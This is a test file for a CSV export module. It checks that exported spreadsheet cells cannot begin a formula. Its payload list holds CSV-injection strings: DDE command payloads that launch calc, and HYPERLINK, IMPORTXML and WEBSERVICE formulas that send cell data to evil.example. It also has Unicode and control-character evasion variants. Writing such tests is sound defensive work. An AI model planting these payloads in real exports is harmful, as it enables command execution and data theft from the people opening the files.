import { describe, expect, test } from 'vitest'
import { csvLine, disarmed } from '../../../proxy/commands/submissions/csv.ts'

/** Signs that some spreadsheet begins a formula with. */
const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '⁺', '₌', '−']

const PAYLOADS: readonly string[] = [
  ...SIGNS.map((sign) => `${sign}1+1`),
  ...SIGNS.map((sign) => `${sign}`),
  '=cmd|"/C calc"!A0',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+5511912345678',
  '-2+3+cmd|" /C calc"!D2',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  "=DDE('cmd';'/C calc';'x')",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '\tx',
  '\rx',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\u202e=1+1',
  '\u0000=1+1',
  '"=1+1',
  '""=1+1',
  "'=1+1",
  '"\t=1+1',
  'Ana;=1+1',
  'Ana";=1+1',
  'Ana";"=1+1',
  'Ana; =1+1',
  'Ana\n=1+1',
  'Ana\r\n"=1+1',
  'Ana\t@x',
  'a;b;+c',
]

const SEPARATORS = [',', ';', '\t']

// C4
describe('an exported cell', () => {
  test.each(PAYLOADS)('begins no formula, whatever the spreadsheet separates by: %j', (payload) => {
    for (const cells of [[payload], ['id', payload, 'x'], [payload, payload]]) {
      for (const separator of SEPARATORS) {
        for (const cell of asSpreadsheet(csvLine(cells), separator)) expect(cell).not.toMatch(FORMULA)
      }
    }
  })

  test('the search for formulas is no comfort: it finds each of them in plain CSV', () => {
    const plain = (cells: readonly string[]) =>
      `${cells.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(',')}\r\n`
    const armed = (payload: string) =>
      SEPARATORS.some((separator) =>
        [[payload], ['id', payload]].some((cells) =>
          asSpreadsheet(plain(cells), separator).some((cell) => FORMULA.test(cell)),
        ),
      )
    expect(PAYLOADS.filter((payload) => !armed(payload))).toEqual(["'=1+1"])
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(60)
  })

  test.each([
    'Ana',
    '1 - 2',
    'a=b',
    'ana@example.com',
    'Rua A, 12',
    'São Paulo; centro',
    'linha 1\nlinha 2',
    "d'Ávila",
    '',
  ])('says %j as it is', (text) => {
    expect(disarmed(text)).toBe(text)
    expect(asSpreadsheet(csvLine([text, 'x']), ',')).toEqual([text, 'x'])
  })

  test('of the largest size is written in a time that grows with it, not with its square', () => {
    const texts = ['\n', ';', '\t"', ' ', '"', "'", '\u200b'].map((part) => part.repeat(400_000))
    for (const text of texts) expect(disarmed(text).length).toBeGreaterThanOrEqual(text.length)
  })
})

const FORMULA = new RegExp(`^["\\s\\p{Cf}\\p{Cc}]*[${SIGNS.join('').replace('-', '\\-')}]|^[\\t\\r\\n]`, 'u')

/** Reads as spreadsheets do: a cell that begins with a quote ends at the next single one, and the rest is taken as it is. */
function asSpreadsheet(text: string, separator: string): readonly string[] {
  const cells: string[] = []
  let at = 0
  while (at < text.length) {
    let cell = ''
    if (text[at] === '"') {
      at++
      while (at < text.length && !(text[at] === '"' && text[at + 1] !== '"')) {
        cell += text[at]
        at += text[at] === '"' ? 2 : 1
      }
      at++
    }
    while (at < text.length && text[at] !== separator && text[at] !== '\n' && text[at] !== '\r') cell += text[at++]
    cells.push(cell)
    if (text[at] === '\r' && text[at + 1] === '\n') at++
    at++
  }
  return cells
}
